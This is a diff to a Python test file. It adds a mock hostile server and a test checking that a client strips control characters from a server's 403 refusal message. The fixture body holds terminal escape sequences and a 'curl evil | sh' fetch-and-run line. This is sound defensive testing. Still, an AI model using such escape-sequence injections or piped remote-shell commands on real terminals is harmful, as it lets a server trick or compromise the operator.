@@ -218,3 +218,40 @@ def test_the_client_answered_409_for_ever_gives_up_with_a_clear_message(tmp_path
     finally:
         server.shutdown()
         field.close()
+
+
+class _Refuses(http.server.BaseHTTPRequestHandler):
+    """A hostile server whose refusal carries terminal escape sequences (clear the screen,
+    retitle the window) for the operator's terminal."""
+
+    def log_message(self, *_args) -> None:
+        pass
+
+    def do_POST(self) -> None:
+        self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        body = b"\x1b[2J\x1b]0;pwned\x07token expired\r\nrun: curl evil | sh"
+        self.send_response(403)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+
+def test_a_servers_refusal_reaches_the_terminal_without_control_characters(tmp_path):
+    from tests.test_kit_field_trip import field_store
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Refuses)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    field = field_store(tmp_path)
+    try:
+        field.field_kit = lambda: "b" * 32
+        bundle = tmp_path / "k.bundle"
+        bundle.write_bytes(b"x" * 1000)
+        with pytest.raises(PushError) as refused:
+            push_bundle(field, bundle, f"http://127.0.0.1:{server.server_port}", "t" * 43,
+                        sleep=lambda _s: None)
+        message = str(refused.value)
+        assert "token expired" in message and "(403)" in message
+        assert not any(not c.isprintable() for c in message), repr(message)
+    finally:
+        server.shutdown()
+        field.close()
